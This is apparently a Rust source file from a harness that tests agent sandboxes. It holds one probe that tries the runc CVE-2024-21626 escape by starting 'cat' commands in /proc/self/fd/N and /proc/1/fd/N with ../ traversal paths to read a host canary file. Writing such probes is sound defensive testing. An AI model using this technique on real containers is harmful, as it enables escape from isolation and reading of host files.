//! A working directory that is a descriptor of the agent.

use sloplet_engine::Command;

use crate::drill::{Drill, DrillError, settle};
use crate::probe::{Finding, Kind, Pending, Probe};

pub const PROBE: Probe = Probe {
    name: "descriptor-workdir",
    ids: &[2],
    tries: "start commands in /proc/self/fd/N and /proc/1/fd/N, and read the host's canary from there",
    why: "CVE-2024-21626: runc kept a descriptor of the host's folder open when it entered that directory",
    needs: &[],
    kind: Kind::Drill(run),
};

fn run<'a>(drill: &'a Drill<'a>) -> Pending<'a> {
    settle(attack(drill))
}

async fn attack(drill: &Drill<'_>) -> Result<Finding, DrillError> {
    let canary = drill.settings().canary.display().to_string();
    let relative = canary.trim_start_matches('/');
    let path = format!("{}{relative}", "../".repeat(30));
    // On the host: the folder is open, so its descriptor is a way there.
    let root = std::fs::File::open("/")?;
    let through = format!("{}/{relative}", crate::part::by_descriptor(&root));
    let works = std::fs::read_to_string(through).is_ok_and(|text| text == drill.settings().secret);
    let sandbox = drill.sandbox(|_| {}).await?;
    let (mut found, mut tried) = (Vec::new(), 0);
    for fd in (3..12).chain([100]) {
        for folder in [format!("/proc/self/fd/{fd}"), format!("/proc/1/fd/{fd}")] {
            for path in [path.as_str(), relative] {
                let command = Command { cwd: Some(folder.clone()), ..drill.words(&["cat", path]) };
                tried += 1;
                match drill.run(&sandbox, command).await {
                    Ok(said) if said.out.contains(&drill.settings().secret) => found.push(folder.clone()),
                    _ => {}
                }
            }
        }
    }
    sandbox.destroy().await?;
    let control = "an open descriptor of the root leads to the canary";
    if !works {
        return Ok(Finding::inconclusive(
            "",
            "the host's canary cannot be read through a descriptor on the host either",
        ));
    }
    Ok(Finding::judge(
        found.is_empty(),
        control,
        format!("{tried} starts, {} led to the host's canary {}", found.len(), found.join(", ")),
    ))
}
